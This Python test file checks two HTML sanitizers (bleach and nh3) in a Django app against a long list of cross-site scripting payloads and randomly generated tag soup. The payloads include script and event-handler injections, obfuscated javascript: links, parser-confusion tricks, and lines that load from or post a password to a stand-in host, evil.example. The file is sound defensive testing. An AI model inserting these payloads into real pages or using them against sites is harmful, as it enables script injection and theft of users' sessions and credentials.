"""Imported HTML: an attack corpus and any soup of tags, against both sanitizers, read back by a parser."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.test import override_settings
from hypothesis import given, settings
from hypothesis import strategies as st

from urgent_action.sanitizing import ATTRIBUTES, PROTOCOLS, SANITIZERS, TAGS, clean_html

both = pytest.mark.parametrize("sanitizer", ["bleach", "nh3"])

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<IMG """><SCRIPT>alert(\'x\')</SCRIPT>">',
    "<img/src='x'/onerror='alert(1)'>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK='alert(1)'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p onclick\n=\n'alert(1)'>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<p id=location name=x class=y>x</p>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='javascript\u200b:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='intent://evil#Intent;end'>x</a>",
    "<a href='tel:+1'>x</a>",
    "<a href=https://section.example onclick=alert(1) target=_blank ping=//evil.example style=x>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href='https://section.example' href='javascript:alert(1)'>x</a>",
    "<a href='https://section.example\" onmouseover=\"alert(1)'>x</a>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- x --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<p>1 < 2 & 3 > 2</p>",
    "<p><script>alert(1)</script",
    "<p title='<script>'>x",
    "<b lang=x title=y dir=rtl>x</b>",
    "<ul><li><ol><li><a href='javascript:alert(1)'><b>x</ul>",
    "\x00<script>\x00alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]

_pieces = st.sampled_from(
    [
        *ATTACKS, "<p>", "</p>", "<b>", "</b>", "<a href=", "'", '"', ">", "<", "/", "&", "&amp;", "&lt", "javascript:", "on", "=",
        "onclick=x", "</", "<!--", "-->", "<li>", "</ul>", "<h3>", "https://section.example", "mailto:", "<svg>", "</svg>",
        "<math>", "<style>", "</style>", "<script>", "</script>", "<textarea>", "</textarea>", "text",
    ]
)  # fmt: skip
soups = st.lists(_pieces | st.text(max_size=6), max_size=8).map("".join)


class Elements(HTMLParser):
    """What a reader of the HTML sees as elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note whatever is not on the allow-list."""
        if tag not in TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.problems.append(f"<{tag} {name}>")
            elif scheme(value or "") not in {None, *PROTOCOLS}:
                self.problems.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        """No comment stays."""
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        """No declaration stays."""
        self.problems.append("declaration")

    def handle_pi(self, data: str) -> None:
        """No processing instruction stays."""
        self.problems.append("instruction")

    def unknown_decl(self, data: str) -> None:
        """No CDATA section stays."""
        self.problems.append("section")


def scheme(address: str) -> str | None:
    """The scheme that a browser sees (WHATWG URL: controls at the ends, tabs and line ends are ignored)."""
    stripped = re.sub(r"[\t\r\n]", "", address.strip("".join(map(chr, range(0x21)))))
    found = re.match(r"([a-z][a-z0-9+.\-]*):", stripped, re.IGNORECASE)
    return found[1].lower() if found else None


def problems(html: str) -> list[str]:
    """What is in the HTML that is not on the allow-list."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.problems


@both
@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_nothing_but_the_allow_list(sanitizer: str, attack: str) -> None:
    cleaned = SANITIZERS[sanitizer](attack)
    assert problems(cleaned) == []
    assert SANITIZERS[sanitizer](cleaned) == cleaned


@both
@given(html=soups)
@settings(max_examples=150, deadline=None)
def test_any_soup_leaves_nothing_but_the_allow_list(sanitizer: str, html: str) -> None:
    cleaned = SANITIZERS[sanitizer](html)
    assert problems(cleaned) == []
    assert SANITIZERS[sanitizer](cleaned) == cleaned


@both
@pytest.mark.parametrize(
    "html",
    [
        "<p>He makes <b>kites</b> and <i>lanterns</i>.</p>",
        "<h3>Background</h3><h4>The law</h4><ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>",
        "<blockquote>A <strong>word</strong>, <em>said</em>.</blockquote>",
        '<p><a href="https://section.example/a?b=1&amp;c=2#d">link</a></p>',
        '<p><a href="mailto:minister@justice.example">mail</a> <a href="http://section.example">http</a></p>',
        '<p><a href="/cases/1/">relative</a></p>',
        "<p>&lt;b&gt; &amp; “quotes” – Zürich, القضية, 案件</p>",
        "<p>one<br>two</p>",
        "",
    ],
)
def test_allowed_html_is_left_alone(sanitizer: str, html: str) -> None:
    assert SANITIZERS[sanitizer](html) == html


@both
@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>alert(1)</script><p>x</p>", "<p>x</p>"),
        ("<style>p { color: red }</style><p>x</p>", "<p>x</p>"),
        ("<p>a<SCRIPT type=module>alert(1)</SCRIPT>b</p>", "<p>ab</p>"),
        ("<!-- note --><p>x</p>", "<p>x</p>"),
        ("<div><span>x</span></div>", "x"),
        ('<a href="javascript:alert(1)" onclick="x">x</a>', "<a>x</a>"),
    ],
)
def test_what_is_not_allowed_goes_and_its_text_stays_except_of_scripts_and_styles(
    sanitizer: str, html: str, expected: str
) -> None:
    assert SANITIZERS[sanitizer](html) == expected


@both
def test_clean_html_uses_the_sanitizer_of_the_settings(sanitizer: str) -> None:
    html = "<p>2 > 1<span> x</span>"
    with override_settings(URGENT_ACTION={"SANITIZER": sanitizer}):
        assert clean_html(html) == SANITIZERS[sanitizer](html) == "<p>2 &gt; 1 x</p>"


def test_clean_html_with_an_unknown_sanitizer() -> None:
    with override_settings(URGENT_ACTION={"SANITIZER": "none"}), pytest.raises(LookupError):
        clean_html("<p>x</p>")
